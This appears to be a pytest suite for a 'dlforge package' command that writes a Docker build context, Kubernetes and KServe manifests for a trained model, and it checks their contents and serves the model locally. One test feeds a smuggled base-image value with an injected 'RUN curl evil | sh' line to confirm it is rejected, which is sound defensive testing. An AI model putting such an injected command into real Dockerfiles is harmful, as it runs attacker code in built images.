"""`dlforge package`: the Docker build context of a run, its manifests, and the command its container runs."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
import zipfile
from importlib.metadata import version
from pathlib import Path

import kubernetes_validate
import numpy as np
import pytest
import yaml
from PIL import Image

import dlforge
from dlforge.errors import DlforgeError
from dlforge.package import dlforge_wheel, dns_label, entrypoint_command, package_run

K8S_VERSION = kubernetes_validate.latest_version()  # the newest Kubernetes the package ships schemas for
DNS_1035 = re.compile(r"[a-z]([-a-z0-9]{0,61}[a-z0-9])?")


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The running dlforge's wheel, built once: the tests that are not about it pass it as `wheel`."""
    folder = tmp_path_factory.mktemp("wheel")
    return folder / dlforge_wheel(folder)


@pytest.fixture(scope="module")
def contexts(trained_run: dlforge.Run, wheel: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The trained run packaged for the CPU (the wheel built by default) and for a GPU."""
    root = tmp_path_factory.mktemp("package")
    return {"cpu": package_run(trained_run.path, root / "cpu"),
            "gpu": package_run(trained_run.path, root / "gpu", gpu=True, wheel=wheel)}


def load_yaml(path: Path) -> dict:
    return yaml.safe_load(path.read_text())


def container_of(context: Path) -> dict:
    return load_yaml(context / "k8s" / "deployment.yaml")["spec"]["template"]["spec"]["containers"][0]


# ---------------------------------------------------------------- the context


def test_context_holds_only_what_serving_reads(contexts: dict[str, Path], trained_run: dlforge.Run) -> None:
    context = contexts["cpu"]
    assert {p.name for p in context.iterdir()} == {"Dockerfile", ".dockerignore", "README.md", "install", "model",
                                                   "k8s", "kserve", "example.json", "example-v2.json"}
    model = context / "model"
    assert {p.name for p in model.iterdir()} <= {"spec.yaml", "meta.json", "model.safetensors", "eval.json",
                                                 "profile", "COMPLETE", "assets", "export"}
    assert {"spec.yaml", "meta.json", "model.safetensors", "COMPLETE"} <= {p.name for p in model.iterdir()}
    assert (model / "profile" / "reference.parquet").is_file()  # serve.monitor compares with it
    assert (trained_run.path / "checkpoints").exists() and not (model / "checkpoints").exists()
    assert (trained_run.path / "plots").exists() and not (model / "plots").exists()
    # In the image the model is root's and the server runs as uid 10001: everything must be world-readable.
    for path in [model, *model.rglob("*")]:
        assert path.stat().st_mode & (0o555 if path.is_dir() else 0o444) == (0o555 if path.is_dir() else 0o444)
    # The copy is a run on its own: the Predictor loads it and predicts for the example request.
    predictor = dlforge.load(model)
    instance = json.loads((context / "example.json").read_text())["instances"][0]
    image = Image.open(io.BytesIO(base64.b64decode(instance)))
    assert predictor.predict([image])[0]["label"] in predictor.classes
    v2 = json.loads((context / "example-v2.json").read_text())["inputs"][0]
    assert v2["datatype"] == "BYTES" and v2["data"] == [instance]


def test_only_the_files_serving_reads_are_copied(trained_run: dlforge.Run, wheel: Path, tmp_path: Path) -> None:
    run = Path(shutil.copytree(trained_run.path, tmp_path / "run", ignore=shutil.ignore_patterns("export")))
    # what a killed export, another format's export and killed writes leave beside the files serving reads
    (run / "export").mkdir()
    (run / "export" / ".model.onnx.81859ff3.tmp").touch()
    (run / "export" / "model.pt2").write_bytes(b"torch.export")
    (run / "profile" / ".reference.parquet.0badf00d.tmp").touch()
    (run / "assets").mkdir()
    (run / "assets" / "vocab.json").write_text("{}")
    (run / "assets" / ".vocab.json.5eed1e55.tmp").touch()
    serving = {"spec.yaml", "meta.json", "model.safetensors", "eval.json", "COMPLETE", "profile/profile.json",
               "profile/reference.parquet", "assets/vocab.json"}

    def copied(name: str) -> set[str]:
        model = package_run(run, tmp_path / name, wheel=wheel) / "model"
        return {p.relative_to(model).as_posix() for p in model.rglob("*") if p.is_file()}

    assert copied("no-onnx") == serving
    # an ONNX export of these weights serves --backend onnx; one of other weights is stale, and stays out
    (run / "export" / "model.onnx").write_bytes(b"onnx")
    sidecar = run / "export" / "model.onnx.json"
    sidecar.write_text(json.dumps({"weights_sha256": dlforge.Run(run).weights_digest()}))
    assert copied("onnx") == serving | {"export/model.onnx", "export/model.onnx.json"}
    sidecar.write_text(json.dumps({"weights_sha256": "0" * 64}))
    assert copied("stale-onnx") == serving


def test_readme_names_the_run_and_every_platform(contexts: dict[str, Path], trained_run: dlforge.Run) -> None:
    text = (contexts["cpu"] / "README.md").read_text()
    assert trained_run.path.name in text and "image_classification" in text
    assert "`0`, `1`, `2`" in text  # the classes
    for needle in ("docker build -t digits-test:", "docker run --rm -p 8080:8080", "localhost:8080/ping",
                   "/invocations", "/predict", "/v2/models/digits-test/infer", "kubectl apply -f k8s/",
                   "kubectl apply -f kserve/inferenceservice.yaml", "aws sagemaker create-model",
                   "aws sagemaker create-endpoint-config", "aws sagemaker create-endpoint ",
                   "gcloud ai models upload", "--container-health-route=/health/ready",
                   "--container-predict-route=/predict", "--container-ports=8080", "AIP_HTTP_PORT",
                   "az ml online-deployment create", "scoring_route"):
        assert needle in text, needle
    assert re.findall(r"\$[a-z_]\w*", text) == ["$schema"]  # no template placeholder left (shell variables are upper)
    assert "--gpus all" in (contexts["gpu"] / "README.md").read_text() and "--gpus" not in text


# ---------------------------------------------------------------- the Dockerfile


def test_dockerfile(contexts: dict[str, Path]) -> None:
    for kind, context in contexts.items():
        text = (context / "Dockerfile").read_text()
        base = re.search(r"^FROM (\S+)", text, re.M).group(1)
        assert base.startswith("nvidia/cuda:") == (kind == "gpu")
        # the Python the pinned versions were installed for
        assert base == f"python:{sys.version_info.major}.{sys.version_info.minor}-slim" or kind == "gpu"
        assert ("download.pytorch.org/whl/cpu" in text) == (kind == "cpu")
        install = install_commands(context)[0]
        assert install[:4] == ["pip", "install", "--no-cache-dir", "--no-deps"]
        assert f"/tmp/install/dlforge-{dlforge_version()}-py3-none-any.whl" in install
        assert ("/tmp/install/requirements-cuda.txt" in install) == (kind == "gpu")
        assert '"dlforge==' not in text  # not on any index: the wheel it is
        user = re.findall(r"^USER (\S+)", text, re.M)
        assert user and user[-1].split(":")[0].isdigit() and int(user[-1].split(":")[0]) != 0
        assert re.search(r"^COPY model/ /opt/ml/model/$", text, re.M)
        assert re.search(r"^EXPOSE 8080$", text, re.M)
        healthcheck = re.search(r"^HEALTHCHECK .*?CMD (\[.*\])$", text.replace("\\\n", ""), re.M | re.S)
        assert healthcheck and "urllib" in healthcheck.group(1) and "/ping" in healthcheck.group(1)
        assert re.search(r'^ENTRYPOINT \["dlforge"\]$', text, re.M) and re.search(r'^CMD \["serve"\]$', text, re.M)
        assert 'dlforge.task="image_classification"' in text and "org.opencontainers.image.version" in text

        argv, env = entrypoint_command(context)
        assert argv == ["dlforge", "serve"]
        assert env["DLFORGE_RUN"] == "/opt/ml/model" and env["DLFORGE_HOST"] == "0.0.0.0"
        assert env["DLFORGE_PORT"] == "8080"


def test_the_running_dlforge_and_its_versions_are_bundled(contexts: dict[str, Path]) -> None:
    install = contexts["cpu"] / "install"
    [built] = install.glob("*.whl")
    with zipfile.ZipFile(built) as whl:  # built from this source tree: the module that wrote it is in it
        assert whl.read("dlforge/package.py") == Path(dlforge.package.__file__).read_bytes()
    pins = dict(line.split("==") for line in (install / "requirements.txt").read_text().splitlines()
                if not line.startswith("#"))
    for name in ("torch", "torchvision", "fastapi", "uvicorn", "onnxruntime", "numpy", "pydantic"):
        assert pins[name] == version(name).split("+")[0], name
    assert "uvloop" in pins and "httptools" in pins  # uvicorn[standard]: extras are followed
    # not the dev group, not what uv's override-dependencies drops, not torch's CUDA runtime (the CPU build)
    assert not {"pytest", "ruff", "spacy", "gensim", "dlforge"} & set(pins)
    assert not [name for name in pins if name.startswith("nvidia-") or name == "triton"]
    cuda = (contexts["gpu"] / "install" / "requirements-cuda.txt").read_text()
    assert f"triton=={version('triton')}" in cuda and not set(pins) & {
        line.split("==")[0] for line in cuda.splitlines() if not line.startswith("#")}


def test_a_wheel_is_installed_from_the_context(trained_run: dlforge.Run, tmp_path: Path) -> None:
    wheel = tmp_path / f"dlforge-{dlforge_version()}-py3-none-any.whl"
    wheel.write_bytes(b"PK")
    context = package_run(trained_run.path, tmp_path / "ctx", wheel=wheel)
    assert [p.name for p in (context / "install").glob("*.whl")] == [wheel.name]
    assert (context / "install" / wheel.name).read_bytes() == b"PK"
    text = (context / "Dockerfile").read_text()
    assert f"/tmp/install/{wheel.name}" in text and "--mount=type=bind,source=install" in text
    with pytest.raises(DlforgeError, match="not a wheel"):
        package_run(trained_run.path, tmp_path / "ctx2", wheel=tmp_path / "nothing.whl")


# ---------------------------------------------------------------- Kubernetes and KServe


@pytest.mark.parametrize("kind", ["cpu", "gpu"])
def test_kubernetes_manifests_validate(contexts: dict[str, Path], kind: str) -> None:
    kinds = set()
    for path in sorted((contexts[kind] / "k8s").glob("*.yaml")):
        doc = load_yaml(path)
        # strict: the schemas without additionalProperties, so a misspelt field fails too
        assert kubernetes_validate.validate(doc, K8S_VERSION, strict=True) == K8S_VERSION.rsplit(".", 1)[0]
        assert DNS_1035.fullmatch(doc["metadata"]["name"])
        kinds.add(doc["kind"])
    assert kinds == {"Deployment", "Service", "HorizontalPodAutoscaler", "PodDisruptionBudget"}


def test_strict_validation_catches_a_misspelt_field(contexts: dict[str, Path]) -> None:
    doc = load_yaml(contexts["cpu"] / "k8s" / "deployment.yaml")
    doc["spec"]["template"]["spec"]["containers"][0]["readinessProbe"]["httpGet"]["paht"] = "/health/ready"
    with pytest.raises(kubernetes_validate.ValidationError, match="paht"):
        kubernetes_validate.validate(doc, K8S_VERSION, strict=True)


@pytest.mark.parametrize("kind", ["cpu", "gpu"])
def test_deployment_probes_security_and_resources(contexts: dict[str, Path], kind: str) -> None:
    deployment = load_yaml(contexts[kind] / "k8s" / "deployment.yaml")
    pod = deployment["spec"]["template"]["spec"]
    container = container_of(contexts[kind])
    assert deployment["spec"]["replicas"] == 2
    assert container["ports"] == [{"name": "http", "containerPort": 8080, "protocol": "TCP"}]
    for probe, path in (("livenessProbe", "/health/live"), ("readinessProbe", "/health/ready"),
                        ("startupProbe", "/health/live")):
        assert container[probe]["httpGet"] == {"path": path, "port": 8080}
    assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] != 0
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    assert container["securityContext"]["allowPrivilegeEscalation"] is False
    assert {"name": "tmp", "mountPath": "/tmp"} in container["volumeMounts"]
    assert {"name": "tmp", "emptyDir": {"sizeLimit": "1Gi"}} in pod["volumes"]
    assert pod["terminationGracePeriodSeconds"] >= 15
    env = {e["name"]: e for e in container["env"]}
    assert env["DLFORGE_RUN"]["value"] == "/opt/ml/model" and env["DLFORGE_PORT"]["value"] == "8080"
    assert env["DLFORGE_API_KEY"]["valueFrom"]["secretKeyRef"]["optional"] is True
    resources = container["resources"]
    assert {"cpu", "memory"} <= set(resources["requests"]) and {"cpu", "memory"} <= set(resources["limits"])
    assert ("nvidia.com/gpu" in resources["limits"]) == (kind == "gpu")

    service = load_yaml(contexts[kind] / "k8s" / "service.yaml")
    assert service["spec"]["type"] == "ClusterIP"
    assert service["spec"]["ports"] == [{"name": "http", "port": 80, "targetPort": "http", "protocol": "TCP"}]
    assert service["spec"]["selector"].items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
    hpa = load_yaml(contexts[kind] / "k8s" / "hpa.yaml")
    assert hpa["apiVersion"] == "autoscaling/v2" and hpa["spec"]["scaleTargetRef"]["name"] == deployment[
        "metadata"]["name"]
    assert (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (2, 10)
    assert hpa["spec"]["metrics"][0]["resource"]["name"] == "cpu"


@pytest.mark.parametrize("kind", ["cpu", "gpu"])
def test_kserve_inference_service(contexts: dict[str, Path], kind: str) -> None:
    isvc = load_yaml(contexts[kind] / "kserve" / "inferenceservice.yaml")
    # kubernetes-validate ships only the built-in kinds' schemas: a CRD such as KServe's has none.
    with pytest.raises(kubernetes_validate.SchemaNotFoundError):
        kubernetes_validate.validate(isvc, K8S_VERSION, strict=True)
    # So: the predictor's containers (KServe inlines a core PodSpec) against the Pod schema, the rest by hand.
    predictor = isvc["spec"]["predictor"]
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": isvc["metadata"]["name"]},
           "spec": {"containers": predictor["containers"]}}
    kubernetes_validate.validate(pod, K8S_VERSION, strict=True)
    assert (isvc["apiVersion"], isvc["kind"]) == ("serving.kserve.io/v1beta1", "InferenceService")
    assert DNS_1035.fullmatch(isvc["metadata"]["name"])
    assert set(predictor) == {"minReplicas", "maxReplicas", "containers"}
    assert 1 <= predictor["minReplicas"] <= predictor["maxReplicas"]
    [container] = predictor["containers"]
    assert container["name"] == "kserve-container"  # the name KServe looks for in a custom predictor
    assert container["image"] == container_of(contexts[kind])["image"]
    assert container["ports"] == [{"containerPort": 8080, "protocol": "TCP"}]  # Knative: exactly one port
    env = {e["name"]: e.get("value") for e in container["env"]}
    assert env["PROTOCOL"] == "v2"  # how KServe learns a custom container speaks the Open Inference Protocol V2
    assert container["securityContext"]["runAsNonRoot"] is True
    assert ("nvidia.com/gpu" in container["resources"]["limits"]) == (kind == "gpu")


# ---------------------------------------------------------------- names and bad input


def test_names_are_dns_labels(trained_run: dlforge.Run, wheel: Path, tmp_path: Path) -> None:
    assert dns_label("Digits_CNN v2!") == "digits-cnn-v2"
    assert dns_label("3d-unet") == "d-unet" and dns_label("___") == "model"
    assert len(dns_label("x" * 100)) == 40
    context = package_run(trained_run.path, tmp_path / "ctx", name="my-model", image="registry.example/m:1",
                          wheel=wheel)
    deployment = load_yaml(context / "k8s" / "deployment.yaml")
    assert deployment["metadata"]["name"] == "my-model" and container_of(context)["image"] == "registry.example/m:1"
    with pytest.raises(DlforgeError, match="'My_Model'"):
        package_run(trained_run.path, tmp_path / "ctx2", name="My_Model")


def test_not_a_run_directory(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(DlforgeError, match=re.escape(str(tmp_path / "empty"))):
        package_run(tmp_path / "empty", tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_an_incomplete_run(trained_run: dlforge.Run, tmp_path: Path) -> None:
    run = shutil.copytree(trained_run.path, tmp_path / "run", ignore=shutil.ignore_patterns("COMPLETE"))
    with pytest.raises(DlforgeError, match=rf"{re.escape(str(run))}: the run did not finish"):
        package_run(run, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_non_empty_out_is_kept_unless_overwrite(trained_run: dlforge.Run, wheel: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "mine.txt").write_text("keep me")
    with pytest.raises(DlforgeError, match=rf"{re.escape(str(out))}: exists and is not an empty folder"):
        package_run(trained_run.path, out)
    assert (out / "mine.txt").read_text() == "keep me"
    package_run(trained_run.path, out, overwrite=True, wheel=wheel)
    assert not (out / "mine.txt").exists() and (out / "Dockerfile").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary or old folder left beside it


def test_a_failure_leaves_nothing_half_written(trained_run: dlforge.Run, wheel: Path, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object) -> str:
        raise OSError("disk full")

    monkeypatch.setattr("dlforge.package.readme", broken)
    with pytest.raises(OSError, match="disk full"):
        package_run(trained_run.path, tmp_path / "out", wheel=wheel)
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------- the image's install and command, outside a container


def install_commands(context: Path) -> list[list[str]]:
    """The commands of the Dockerfile's RUN that mounts install/ (its `&&`-joined pip commands), as argv lists."""
    mount = "RUN --mount=type=bind,source=install,target=/tmp/install"
    [run] = [line for line in (context / "Dockerfile").read_text().replace("\\\n", " ").splitlines()
             if line.startswith(mount)]
    return [shlex.split(command) for command in run.removeprefix(mount).split("&&")]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def digit_png() -> str:
    from sklearn.datasets import load_digits

    pixels = np.round(load_digits().images[0] * 255 / 16).astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="PNG")
    return base64.b64encode(buffer.getvalue()).decode()


UV = os.environ.get("UV") or shutil.which("uv")  # `uv run` names the uv that runs it


def test_the_image_installs_and_serves_the_packaged_model(contexts: dict[str, Path], tmp_path: Path) -> None:
    """The Dockerfile's install step, then its ENTRYPOINT + CMD with its ENV, outside a container: a fresh venv
    made with uv gets the bundled wheel and the pinned requirements (wheels from uv's cache; no project checkout
    on any path), and its `dlforge serve` answers for the packaged model. The GPU context's install is the one
    this machine can run: its torch is the CUDA build (the CPU context's comes from the CPU index)."""
    context = contexts["gpu"]
    venv = tmp_path / "opt-venv"
    env = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "PYTHONPATH")}

    def uv(*args: str) -> None:
        proc = subprocess.run([UV, *args], cwd=tmp_path, env=env, capture_output=True, text=True)
        assert proc.returncode == 0, f"uv {shlex.join(args)}:\n{proc.stderr[-3000:]}"

    uv("venv", "--no-config", "--quiet", "--python", sys.executable, str(venv))
    for argv in install_commands(context):
        assert argv[:3] == ["pip", "install", "--no-cache-dir"], argv  # uv pip stands in for the image's pip
        # Symlinks into uv's cache: seconds, on any filesystem (torch and its CUDA runtime are gigabytes). Not
        # --offline: `uv sync` caches the wheels but not the index pages that name them.
        uv("pip", "install", "--no-config", "--quiet", "--python", str(venv / "bin" / "python"),
           "--link-mode", "symlink", *(a.replace("/tmp/install", str(context / "install")) for a in argv[3:]))
    where = subprocess.run([venv / "bin" / "python", "-c", "import importlib.util as u; "
                            "print(u.find_spec('dlforge').origin)"], cwd=tmp_path, env=env, capture_output=True,
                           text=True, check=True).stdout
    assert where.startswith(str(venv))  # the installed wheel, not this checkout

    argv, image_env = entrypoint_command(context)
    assert argv == ["dlforge", "serve"]
    port = free_port()
    # the image's ENV, with its /opt/venv here: `dlforge` is found on its PATH, as in the container
    server_env = {**env, **{k: v.replace("/opt/venv", str(venv)) for k, v in image_env.items()},
                  "DLFORGE_RUN": str(context / "model"), "DLFORGE_PORT": str(port)}
    assert server_env["PATH"].startswith(f"{venv}/bin:")
    log = (tmp_path / "server.log").open("w")
    server = subprocess.Popen(argv, env=server_env, cwd=tmp_path, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 180  # a fresh venv: no bytecode yet, every module is compiled at import
        while True:
            assert server.poll() is None, f"the server exited {server.returncode}:\n{read(tmp_path / 'server.log')}"
            try:
                with urllib.request.urlopen(f"{url}/ping", timeout=2) as answer:
                    if answer.status == 200:
                        break
            except OSError:
                pass
            assert time.monotonic() < deadline, f"no /ping in 180 s:\n{read(tmp_path / 'server.log')}"
            time.sleep(0.25)
        request = urllib.request.Request(f"{url}/invocations", data=json.dumps({"instances": [digit_png()]}).encode(),
                                         headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=30) as answer:
            predictions = json.loads(answer.read())["predictions"]
        classes = json.loads((context / "model" / "meta.json").read_text())["classes"]
        assert len(predictions) == 1 and predictions[0]["label"] in classes
        # The README's request bodies work as written: example.json on /predict, example-v2.json on V2 infer.
        assert len(post(f"{url}/predict", context / "example.json")["predictions"]) == 1
        answer = post(f"{url}/v2/models/{load_yaml(context / 'model' / 'spec.yaml')['name']}/infer",
                      context / "example-v2.json")
        assert {o["name"]: o["data"] for o in answer["outputs"]}["label"][0] in classes
        server.send_signal(signal.SIGTERM)
        assert server.wait(timeout=15) == 0, read(tmp_path / "server.log")
    finally:
        if server.poll() is None:
            server.kill()
            server.wait()
        log.close()


def post(url: str, body: Path) -> dict:
    request = urllib.request.Request(url, data=body.read_bytes(), headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=30) as answer:
        return json.loads(answer.read())


def read(path: Path) -> str:
    return path.read_text()[-4000:]


def dlforge_version() -> str:
    return version("dlforge")


DIGEST = "sha256:" + "0123456789abcdef" * 4


def test_base_image_pinned_by_digest_and_a_required_api_key(trained_run: dlforge.Run, wheel: Path,
                                                             tmp_path: Path) -> None:
    base = f"python:{sys.version_info.major}.{sys.version_info.minor}-slim@{DIGEST}"
    context = package_run(trained_run.path, tmp_path / "pinned", wheel=wheel, base_image=base, api_key=True)
    text = (context / "Dockerfile").read_text()
    assert re.search(r"^FROM (\S+)$", text, re.M).group(1) == base
    assert f'org.opencontainers.image.base.digest="{DIGEST}"' in text and "moving tag" not in text
    for manifest in ("k8s/deployment.yaml", "kserve/inferenceservice.yaml"):
        doc = load_yaml(context / manifest)
        spec = doc["spec"]["template"]["spec"] if doc["kind"] == "Deployment" else doc["spec"]["predictor"]
        env = {e["name"]: e for e in spec["containers"][0]["env"]}
        ref = env["DLFORGE_API_KEY"]["valueFrom"]["secretKeyRef"]
        assert ref == {"name": f"{dns_label('digits-test')}-api-key", "key": "api-key"}  # no optional: required
    assert kubernetes_validate.validate(load_yaml(context / "k8s" / "deployment.yaml"), K8S_VERSION, strict=True)
    readme = (context / "README.md").read_text()
    assert "is required (packaged with `--api-key`)" in readme and "# required" in readme

    # Not asked: the tag moves (the Dockerfile says so and how to pin it), and the Secret stays optional.
    text = (package_run(trained_run.path, tmp_path / "moving", wheel=wheel) / "Dockerfile").read_text()
    assert re.search(r"^# python:\S+-slim is a moving tag: .*\n(#.*\n)*FROM python:\S+-slim$", text, re.M)
    assert "--base-image python:" in text and "base.digest" not in text
    assert "is optional: without it the server answers everyone" in (tmp_path / "moving" / "README.md").read_text()

    for bad in ("python:3.12-slim\nRUN curl evil | sh", "python:3.12-slim@sha256:abc", "Python:3.12"):
        with pytest.raises(DlforgeError, match=r"^--base-image .*: not an image reference"):
            package_run(trained_run.path, tmp_path / "bad", wheel=wheel, base_image=bad)
    proc = subprocess.run([sys.executable, "-m", "dlforge.cli", "package", str(trained_run.path), "--out",
                           str(tmp_path / "cli"), "--wheel", str(wheel), "--base-image", base, "--api-key"],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert f"FROM {base}\n" in (tmp_path / "cli" / "Dockerfile").read_text()
    assert "optional" not in (tmp_path / "cli" / "k8s" / "deployment.yaml").read_text()
